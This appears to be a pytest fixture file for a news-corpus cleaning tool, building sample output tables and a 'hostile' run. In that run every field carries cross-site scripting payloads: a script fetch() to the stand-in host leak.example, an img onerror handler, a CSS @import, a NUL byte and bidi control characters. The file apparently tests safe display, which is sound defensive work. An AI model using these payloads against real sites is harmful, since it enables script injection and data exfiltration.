"""Outputs of runs as `newsclean run` writes them, made of a few rows: a plain one, and one with hostile text."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from newsclean.corpus.tables import OUTPUTS

if TYPE_CHECKING:
    from pathlib import Path

LEAK = "http://leak.example"
MANIFEST = {"versions": {"newsclean": "1.2.3"}, "options": {"clean": {"doubt": 0.3}}, "inputs": []}


def write(out: Path, name: str, rows: list[dict], form: str = "parquet", parts: int = 1) -> None:
    """Write a table of the output in some parts; what a row lacks is null."""
    (out / name).mkdir(parents=True, exist_ok=True)
    size = -(-len(rows) // parts)
    for at in range(parts):
        path = out / name / f"part-{at:05}.{form}"
        some = pa.Table.from_pylist(rows[at * size : (at + 1) * size], OUTPUTS[name])
        if form == "parquet":
            pq.write_table(some, path)
        else:
            path.write_text("".join(json.dumps(row) + "\n" for row in some.to_pylist()), "utf-8")


def write_run(out: Path, tables: dict[str, list[dict]], form: str = "parquet", parts: int = 1) -> Path:
    for name, rows in tables.items():
        write(out, name, rows, form, parts)
    (out / "manifest.json").write_text(json.dumps(MANIFEST))
    return out


def document(at: int, host: str, *, kept: int = 60, story: int | None = None, title: str = "") -> dict:
    return {
        "id": f"doc-{at}", "input": "crawl.jsonl", "position": at, "host": host, "title": title, "text": "Rain.",
        "blocks_in": 10, "blocks_kept": 6, "characters_in": 100, "characters_kept": kept,
        "story": at if story is None else story,
    }  # fmt: skip


def removal(at: int, rule: str, text: str = "Most read today") -> dict:
    return {
        "document": f"doc-{at}", "start": at, "end": at + len(text), "text": text, "rule": rule,
        "evidence": f"a cue of {rule}", "score": 0.9, "path": "",
    }  # fmt: skip


def paragraph(at: int, index: int, cluster: int, relation: str, text: str = "All rights reserved.") -> dict:
    return {
        "document": f"doc-{at}", "index": index, "start": 0, "end": len(text), "kind": "paragraph", "text": text,
        "cluster": cluster, "canonical_document": "doc-0", "canonical_index": 0, "relation": relation,
        "similarity": 1.0,
    }  # fmt: skip


TABLES = {
    "documents": [
        *(document(at, "big.example") for at in range(3)),
        document(3, "small.example", kept=100, story=0, title="Keepers return to the lighthouse"),
        *(document(at, f"host-{at}.example") for at in range(4, 30)),
        document(30, ""),
    ],
    "removals": [
        *(removal(at, "related") for at in range(30)),
        *(removal(at, "caption", "A photo of the harbour at dawn, by a reader") for at in range(5)),
    ],
    "paragraphs": [
        paragraph(0, 0, 0, "canonical", "Sign up for the letter of the harbour."),
        paragraph(0, 1, 1, "canonical", "The lamp failed in winter."),
        paragraph(1, 0, 0, "duplicate"),
        paragraph(1, 1, 0, "duplicate"),
        paragraph(2, 0, 0, "variant"),
        paragraph(2, 1, 5, "canonical", "It is said once."),
        paragraph(3, 0, 1, "duplicate"),
    ],
    "stories": [
        {"story": 0, "text": "Two keepers moved in.", "documents": ["doc-0", "doc-3"], "variants": []},
        {"story": 1, "text": "It rained.", "documents": ["doc-1"], "variants": []},
    ],
    "quarantine": [
        *({"input": "a.jsonl", "position": at, "stage": "read", "reason": f"line {at} is not JSON"} for at in range(6)),
        {"input": "b.html", "position": 0, "id": "b.html", "stage": "clean", "reason": "took more than 30 s"},
    ],
}  # fmt: skip


@pytest.fixture
def finished(tmp_path: Path) -> Path:
    """The output of a plain run."""
    return write_run(tmp_path / "out", TABLES, parts=2)


@pytest.fixture
def hostile(tmp_path: Path) -> tuple[Path, dict[str, str]]:
    """An output with script tags, quotes, entities, NUL and bidi marks in every field, and what a reader must see."""
    seen: dict[str, str] = {}

    def evil(field: str) -> str:
        text = (
            f"{field}'\"><script>fetch('{LEAK}/{field}')</script><img src={LEAK}/{field}.png onerror=alert(1)>"
            f"</style></svg></title>--><style>@import '{LEAK}/{field}.css'</style>&lt;b&#62;"
        )
        seen[field] = f"{text}U+0000U+202EU+2066U+200Fend"
        return f"{text}\x00\u202e\u2066\u200fend"

    first, text = evil("document id"), evil("paragraph")
    cluster = {"document": first, "index": 0, "text": text, "cluster": 0, "similarity": 1.0}
    tables = {
        "documents": [{**document(0, evil("host"), title=evil("title")), "id": first}],
        "removals": [
            {
                **removal(0, evil("rule")), "document": first, "text": evil("removed"), "evidence": evil("evidence"),
            }
        ],
        "paragraphs": [{**cluster, "relation": "canonical"}, {**cluster, "index": 1, "relation": "duplicate"}],
        "stories": [{"story": 0, "text": evil("story"), "documents": [first, evil("other document")]}],
        "quarantine": [
            {
                "input": evil("input"), "position": 0, "id": evil("record"), "stage": evil("stage"),
                "reason": evil("reason"),
            }
        ],
    }  # fmt: skip
    out = write_run(tmp_path / "out", tables)
    manifest = {"versions": {evil("name of a version"): evil("version")}, "options": [evil("not shown")]}
    (out / "manifest.json").write_text(json.dumps(manifest))
    seen.pop("not shown")
    return out, seen
